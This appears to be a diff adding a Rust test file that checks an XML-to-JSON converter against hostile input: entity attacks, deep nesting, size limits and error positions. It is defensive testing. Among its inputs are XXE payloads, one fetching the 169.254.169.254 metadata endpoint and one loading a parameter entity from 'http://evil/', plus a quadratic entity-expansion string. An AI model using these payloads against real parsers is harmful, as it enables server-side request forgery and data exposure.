@@ -1,0 +1,342 @@
+//! Hostile input: entity attacks, deep nesting, huge counts and sizes, error positions.
+
+use std::time::{Duration, Instant};
+
+use xml_to_json::{Config, Converter, Error, ErrorKind};
+
+use crate::{convert_chunked, testdata};
+
+fn convert(input: &[u8], config: &Config) -> Result<Vec<u8>, Error> {
+    xml_to_json::convert(input, config)
+}
+
+fn assert_fast(start: Instant) {
+    assert!(
+        start.elapsed() < Duration::from_secs(2),
+        "took {:?}",
+        start.elapsed()
+    );
+}
+
+#[test]
+fn entity_attacks_fail_fast_with_invalid_content() {
+    let mut quadratic = String::from("<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY a \"");
+    quadratic.push_str(&"x".repeat(100_000));
+    quadratic.push_str("\">]><r>");
+    quadratic.push_str(&"&a;".repeat(100_000));
+    quadratic.push_str("</r>");
+    let inputs: Vec<Vec<u8>> = vec![
+        std::fs::read(testdata("real/billion_laughs_classic.xml")).unwrap(),
+        std::fs::read(testdata("real/xxe_external_file.xml")).unwrap(),
+        quadratic.into_bytes(),
+        b"<!DOCTYPE r [<!ENTITY x SYSTEM \"http://169.254.169.254/latest/meta-data/\">]><r>&x;</r>"
+            .to_vec(),
+        b"<!DOCTYPE r [<!ENTITY % p SYSTEM \"http://evil/\"> %p;]><r/>".to_vec(),
+    ];
+    for input in inputs {
+        let start = Instant::now();
+        let err = convert(&input, &Config::default()).unwrap_err();
+        assert_fast(start);
+        assert!(matches!(err, Error::EntitiesForbidden { .. }), "{err}");
+        assert_eq!(err.kind(), ErrorKind::InvalidContent);
+        // Same when the declaration arrives in small pieces.
+        let err = convert_chunked(&input, &Config::default(), 7).unwrap_err();
+        assert!(matches!(err, Error::EntitiesForbidden { .. }), "{err}");
+    }
+}
+
+#[test]
+fn doctype_without_entities_is_fine_and_undefined_entities_are_errors() {
+    let out = convert(
+        b"<!DOCTYPE a SYSTEM \"a.dtd\"><a>x&nbsp;y</a>",
+        &Config::default(),
+    )
+    .unwrap();
+    assert_eq!(out, b"{\"a\":\"xy\"}\n");
+    let err = convert(b"<a>&nbsp;</a>", &Config::default()).unwrap_err();
+    assert_eq!(err.kind(), ErrorKind::InvalidContent);
+}
+
+fn deep(n: usize) -> Vec<u8> {
+    let mut s = Vec::with_capacity(n * 8);
+    for _ in 0..n {
+        s.extend_from_slice(b"<l>");
+    }
+    s.extend_from_slice(b"x");
+    for _ in 0..n {
+        s.extend_from_slice(b"</l>");
+    }
+    s
+}
+
+#[test]
+fn depth_limit_by_default() {
+    let start = Instant::now();
+    let err = convert(&deep(100_000), &Config::default()).unwrap_err();
+    assert_fast(start);
+    assert!(
+        matches!(
+            err,
+            Error::LimitExceeded {
+                limit: "max_depth",
+                max: 1000,
+                ..
+            }
+        ),
+        "{err}"
+    );
+    assert_eq!(err.kind(), ErrorKind::TooLarge);
+}
+
+#[test]
+fn hundred_thousand_deep_converts_without_recursion() {
+    // A small stack proves neither the builder nor the serialiser recurses on depth.
+    let handle = std::thread::Builder::new()
+        .stack_size(256 << 10)
+        .spawn(|| {
+            let input = deep(100_000);
+            let config = Config {
+                max_depth: 200_000,
+                ..Config::default()
+            };
+            let tree = convert(&input, &config).unwrap();
+            assert!(tree.starts_with(b"{\"l\":{\"l\":{\"l\":"));
+            assert_eq!(tree.iter().filter(|&&b| b == b'{').count(), 100_000);
+            assert!(tree.ends_with(&[b'}'; 3]) || tree.ends_with(b"}\n"));
+            let pretty = Config {
+                pretty: true,
+                max_output_bytes: 20 << 30,
+                ..config.clone()
+            };
+            // Pretty output of 100k levels is ~10 GB of indentation: the output limit stops it.
+            let err = convert(
+                &input,
+                &Config {
+                    max_output_bytes: 50 << 20,
+                    ..pretty
+                },
+            )
+            .unwrap_err();
+            assert!(
+                matches!(
+                    err,
+                    Error::LimitExceeded {
+                        limit: "max_output_bytes",
+                        ..
+                    }
+                ),
+                "{err}"
+            );
+            let ordered = Config {
+                ordered: true,
+                ..config.clone()
+            };
+            let jsonml = convert(&input, &ordered).unwrap();
+            assert!(jsonml.starts_with(b"[\"l\",[\"l\","));
+            let records = Config {
+                item_depth: 99_999,
+                ..config
+            };
+            let nd = convert(&input, &records).unwrap();
+            assert_eq!(nd, b"{\"l\":{\"l\":\"x\"}}\n");
+        })
+        .unwrap();
+    handle.join().unwrap();
+}
+
+#[test]
+fn attribute_and_namespace_limits() {
+    let mut many = String::from("<a");
+    for i in 0..2000 {
+        many.push_str(&format!(" a{i}=\"v\""));
+    }
+    many.push_str("/>");
+    let err = convert(many.as_bytes(), &Config::default()).unwrap_err();
+    assert!(
+        matches!(
+            err,
+            Error::LimitExceeded {
+                limit: "max_attributes",
+                ..
+            }
+        ),
+        "{err}"
+    );
+    let raised = Config {
+        max_attributes: 5000,
+        ..Config::default()
+    };
+    let out = convert(many.as_bytes(), &raised).unwrap();
+    assert!(out.windows(8).any(|w| w == b"\"@a1999\""));
+
+    let mut decls = String::from("<a");
+    for i in 0..300 {
+        decls.push_str(&format!(" xmlns:p{i}=\"urn:{i}\""));
+    }
+    decls.push_str("/>");
+    for ns in [false, true] {
+        let config = Config {
+            process_namespaces: ns,
+            ..Config::default()
+        };
+        let err = convert(decls.as_bytes(), &config).unwrap_err();
+        assert!(
+            matches!(
+                err,
+                Error::LimitExceeded {
+                    limit: "max_namespace_declarations",
+                    ..
+                }
+            ),
+            "{err}"
+        );
+    }
+    // Declarations accumulate along the open path and are released on close.
+    let nested = "<a xmlns:x=\"u\"><b xmlns:y=\"v\"/><c xmlns:z=\"w\"/></a>";
+    let tight = Config {
+        max_namespace_declarations: 2,
+        process_namespaces: true,
+        ..Config::default()
+    };
+    assert!(convert(nested.as_bytes(), &tight).is_ok());
+    let tighter = Config {
+        max_namespace_declarations: 1,
+        ..tight
+    };
+    assert!(convert(nested.as_bytes(), &tighter).is_err());
+}
+
+#[test]
+fn text_and_output_limits() {
+    let small = Config {
+        max_text_bytes: 1000,
+        ..Config::default()
+    };
+    let text = format!("<a>{}</a>", "x".repeat(2000));
+    let err = convert(text.as_bytes(), &small).unwrap_err();
+    assert!(
+        matches!(
+            err,
+            Error::LimitExceeded {
+                limit: "max_text_bytes",
+                ..
+            }
+        ),
+        "{err}"
+    );
+    // Joined text counts, not single chunks.
+    let joined = format!("<a>{}<b/>{}</a>", "x".repeat(600), "y".repeat(600));
+    assert!(convert(joined.as_bytes(), &small).is_err());
+    let attr = format!("<a v=\"{}\"/>", "x".repeat(2000));
+    assert!(convert(attr.as_bytes(), &small).is_err());
+
+    // An unterminated tag streamed forever is refused once the tail passes the limit.
+    let mut conv = Converter::new(small).unwrap();
+    let mut out = Vec::new();
+    conv.feed(b"<a><b x=\"", &mut out).unwrap();
+    let chunk = [b'y'; 4096];
+    let mut failed = None;
+    for _ in 0..1000 {
+        if let Err(e) = conv.feed(&chunk, &mut out) {
+            failed = Some(e);
+            break;
+        }
+    }
+    let err = failed.expect("unbounded tail accepted");
+    assert!(
+        matches!(
+            err,
+            Error::LimitExceeded {
+                limit: "max_text_bytes",
+                ..
+            }
+        ),
+        "{err}"
+    );
+
+    let tiny_out = Config {
+        max_output_bytes: 100,
+        ..Config::default()
+    };
+    let big = format!("<a>{}</a>", "<b>0123456789</b>".repeat(20));
+    let err = convert(big.as_bytes(), &tiny_out).unwrap_err();
+    assert!(
+        matches!(
+            err,
+            Error::LimitExceeded {
+                limit: "max_output_bytes",
+                ..
+            }
+        ),
+        "{err}"
+    );
+    let records = Config {
+        item_depth: 2,
+        ..tiny_out
+    };
+    assert!(convert(big.as_bytes(), &records).is_err());
+}
+
+#[test]
+fn malformed_errors_carry_line_and_column_but_no_content() {
+    let err = convert(b"<a>\n  <secret></c>", &Config::default()).unwrap_err();
+    match &err {
+        Error::Malformed { line, column, .. } => assert_eq!((*line, *column), (2, 11)),
+        other => panic!("unexpected {other}"),
+    }
+    let msg = err.to_string();
+    assert!(msg.contains("line 2, column 11"), "{msg}");
+    assert!(!msg.contains("secret"), "{msg}");
+
+    // Truncated: reported at the end of the input, also when fed in chunks.
+    for chunk in [1, 5, 1000] {
+        let err = convert_chunked(b"<a>\n<b>t</b>\n<c>", &Config::default(), chunk).unwrap_err();
+        match err {
+            Error::Malformed { line, column, .. } => {
+                assert_eq!((line, column), (3, 4), "chunk {chunk}");
+            }
+            other => panic!("unexpected {other}"),
+        }
+    }
+    let err = convert(b"<a x=\"1\n", &Config::default()).unwrap_err();
+    assert!(
+        matches!(
+            err,
+            Error::Malformed {
+                line: 1,
+                column: 1,
+                ..
+            }
+        ),
+        "{err}"
+    );
+}
+
+#[test]
+fn converter_refuses_use_after_error_or_finish() {
+    let mut conv = Converter::new(Config::default()).unwrap();
+    let mut out = Vec::new();
+    assert!(conv.feed(b"<a></b>", &mut out).is_err());
+    assert_eq!(
+        conv.feed(b"<a/>", &mut out).unwrap_err().kind(),
+        ErrorKind::Internal
+    );
+    let mut conv = Converter::new(Config::default()).unwrap();
+    conv.feed(b"<a/>", &mut out).unwrap();
+    conv.finish(&mut out).unwrap();
+    assert_eq!(
+        conv.finish(&mut out).unwrap_err().kind(),
+        ErrorKind::Internal
+    );
+}
+
+#[test]
+fn invalid_config_is_rejected_by_the_constructor() {
+    let err = Converter::new(Config {
+        max_depth: 0,
+        ..Config::default()
+    })
+    .err()
+    .unwrap();
+    assert_eq!(err.payload_key(), Some("max_depth"));
+}
